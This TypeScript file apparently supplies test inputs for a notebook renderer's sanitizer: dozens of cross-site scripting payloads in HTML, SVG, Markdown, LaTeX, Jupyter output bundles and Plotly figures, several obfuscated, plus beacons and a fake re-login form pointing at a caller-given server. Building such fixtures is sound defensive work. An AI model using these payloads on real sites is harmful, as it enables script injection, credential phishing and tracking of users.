/**
 * What a notebook may hold to make its page do something. `act` is JavaScript without double
 * quotes that leaves a name behind, `url` a server that is told who looks at the page.
 */
type Attack<T> = (act: (name: string) => string, url: string) => T;

export const asHtml: Attack<{ readonly [name: string]: string }> = (act, url) => ({
  script: `<script>${act("script")}</script>`,
  "script of elsewhere": `<script src="${url}/script"></script>`,
  "half a tag": `<scr<script>ipt>${act("half")}</scr</script>ipt>`,
  svg: `<svg onload="${act("svg")}"><circle r="5" /></svg>`,
  "svg's script": `<svg><script>${act("svg's script")}</script></svg>`,
  "svg's animation": `<svg><animate onbegin="${act("animation")}" attributeName="x" dur="1s" /></svg>`,
  "svg's link": `<svg><a xlink:href="javascript:${act("svg link")}"><text y="20">go</text></a></svg>`,
  image: `<img src="none:" onerror="${act("image")}">`,
  "image of elsewhere": `<img src="${url}/image">`,
  "image's srcset": `<img srcset="${url}/srcset 1x">`,
  mouse: `<div onmouseover="${act("mouse")}">over here</div>`,
  focus: `<input autofocus onfocus="${act("focus")}">`,
  details: `<details open ontoggle="${act("details")}"><summary>more</summary></details>`,
  link: `<a href="javascript:${act("link")}">go</a>`,
  "link in capitals": `<a href=" JaVaScRiPt:${act("capitals")}">go</a>`,
  "link with a tab": `<a href="java&#9;script:${act("tab")}">go</a>`,
  "link with an entity": `<a href="&#106;avascript&colon;${act("entity")}">go</a>`,
  "link to data": `<a href="data:text/html,<script>${act("data")}</script>">go</a>`,
  frame: `<iframe srcdoc="<script>${act("frame")}</script>"></iframe>`,
  "frame of a link": `<iframe src="javascript:${act("frame of a link")}"></iframe>`,
  object: `<object data="data:text/html,<script>${act("object")}</script>"></object>`,
  embed: `<embed src="${url}/embed">`,
  form: `<form action="${url}/form"><button>Log in again</button></form>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
  base: `<base href="${url}/">`,
  "style of elsewhere": `<style>@import "${url}/style";</style><link rel="stylesheet" href="${url}/sheet">`,
  background: `<div style="background: url(${url}/background); background-color: url(${url}/color)">x</div>`,
  overlay: `<div style="position: fixed; inset: 0; background-color: white">all over the page</div>`,
  "out of a formula": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act("formula")}&gt;">`,
  "out of no script": `<noscript><p title="</noscript><img src=none: onerror=${act("no script")}>"></noscript>`,
  "out of a text": `<textarea></textarea><script>${act("text")}</script></textarea>`,
  "a figure's data": `<div><script type="application/json" class="figure">{"data": [], "layout": {"title": {"text": "<img src=none: onerror=${act("figure")}>"}}}</script></div>`,
  "a program for figures": `<script type="text/plain" id="plotly">AAAA</script><pre id="plotly">AAAA</pre>`,
});

export const asMarkdown: Attack<string[]> = (act, url) => [
  `[go](javascript:${act("markdown")})`,
  `[go]( <javascript:${act("angles")}> )`,
  `<javascript:${act("auto")}>`,
  `![seen](${url}/markdown)`,
  `[go][1]\n\n[1]: javascript:${act("reference")}`,
  `\`\`\`html"><script>${act("fence")}</script>\nx\n\`\`\``,
  `$\\text{<img src=none: onerror="${act("formula")}">}$`,
  `$$\\href{javascript:${act("href")}}{x}$$`,
  `$$</math><img src=none: onerror="${act("broken formula")}">$$`,
];

const figure = (text: string, url: string) => ({
  data: [{ y: [1, 3, 2], name: text, text, hovertemplate: text, type: "scatter" }],
  layout: {
    title: { text },
    annotations: [{ text, x: 1, y: 2 }],
    images: [
      `${url}/figure`,
      `  ${url.replace("http:", "ht\ttp:")}/tab`,
      url.replace("http:", ""),
    ].map((source) => ({ source, x: 0, y: 1, sizex: 1, sizey: 1 })),
  },
  frames: [{ name: "next", layout: { images: [{ source: `${url}/frame` }] } }],
  config: { topojsonURL: `${url}/`, plotlyServerURL: url, showEditInChartStudio: true },
});

/** Figures that fetch something to be drawn: a map its ground, a style its picture. */
const fetching = (url: string) => [
  { data: [{ type: "scattergeo", lon: [0], lat: [0] }] },
  { data: [{ type: "choropleth", locations: ["FRA"], z: [1] }] },
  {
    data: [{ type: "scattermap", lon: [0], lat: [0] }],
    layout: { map: { style: "open-street-map" } },
  },
  { data: [{ type: "densitymap", lon: [0], lat: [0], z: [1] }] },
  {
    data: [{ y: [1, 2] }],
    layout: {
      title: {
        text: `<span style='mask:url(${url}/mask);cursor:url(${url}/cursor),auto'>x</span>`,
      },
    },
  },
];

/** Bundles of a cell's output, by their media types. */
export const asOutputs: Attack<{ readonly [type: string]: unknown }[]> = (act, url) => {
  const script = `<script>${act("output")}</script>`;
  const image = `<img src="none:" onerror="${act("image in an output")}">`;
  return [
    { "application/javascript": act("javascript") },
    { "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>` },
    { "image/png": `"><script>${act("png")}</script>` },
    { "text/markdown": `${script} [go](javascript:${act("markdown output")})` },
    { "text/latex": `$x$ ${script} ${image}` },
    { "text/vnd.mermaid": `</pre>${script}${image}` },
    { "application/vnd.jupyter.widget-view+json": { model_id: `"></script>${script}` } },
    { [`x/"><script>${act("type")}</script>`]: script },
    { "application/vnd.plotly.v1+json": figure(`</script>${script}${image}`, url) },
    {
      "application/vnd.plotly.v1+json": figure(`<a href="javascript:${act("figure")}">go</a>`, url),
    },
    ...fetching(url).map((one) => ({ "application/vnd.plotly.v1+json": one })),
  ];
};
